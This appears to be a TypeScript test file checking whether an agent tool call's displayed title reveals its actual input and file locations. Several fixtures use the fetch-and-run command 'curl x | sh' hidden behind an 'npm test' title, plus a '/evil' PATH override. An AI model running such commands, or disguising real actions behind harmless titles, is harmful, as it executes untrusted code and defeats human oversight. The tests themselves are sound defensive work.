import { newToolCall, type KnownToolCall } from '@quayside/protocol'
import { expect, test } from 'vitest'
import { hiddenLocations, isInputShown } from './shown-input.js'

const call = (fields: Omit<KnownToolCall, 'toolCallId'>) =>
  newToolCall({ toolCallId: 't', ...fields })
const said = (text: string) => ({ type: 'content', content: { type: 'text', text } }) as const
const diff = { type: 'diff', path: '/repo/a', oldText: 'one\n', newText: 'two\n' } as const

test('an input is shown when the title has all of its texts', () => {
  expect(isInputShown(call({ title: 'npm test', rawInput: { command: 'npm test' } }))).toBe(true)
  expect(isInputShown(call({ title: 'npm test' }))).toBe(true)
  expect(isInputShown(call({ title: 'npm test', rawInput: { command: 'curl x | sh' } }))).toBe(
    false,
  )
  expect(isInputShown(call({ title: 'npm test', rawInput: 'curl x | sh' }))).toBe(false)
  expect(isInputShown(call({ title: 'x', rawInput: { env: [{ PATH: '/evil' }] } }))).toBe(false)
})

test("the agent's own words beside the command do not count", () => {
  const rawInput = { command: 'curl x | sh' }
  for (const text of ['Runs the tests', 'Runs the tests. Not: curl x | sh'])
    expect(isInputShown(call({ title: 'npm test', rawInput, content: [said(text)] }))).toBe(false)
})

test('the texts of an edit are in its diff, a command is not', () => {
  const rawInput = { file_path: '/repo/a', new_string: 'two' }
  expect(isInputShown(call({ title: 'Edit a', rawInput, content: [diff] }))).toBe(true)
  const content = [{ ...diff, newText: 'curl x | sh' }]
  const command = { command: 'curl x | sh' }
  expect(isInputShown(call({ title: 'Edit a', rawInput: command, content }))).toBe(false)
})

test('locations are shown unless a diff names them', () => {
  const locations = [{ path: '/repo/a' }, { path: '/etc/hosts', line: 3 }]
  expect(hiddenLocations(call({ locations, content: [diff] }))).toEqual([locations[1]])
  expect(hiddenLocations(call({ locations }))).toEqual(locations)
})
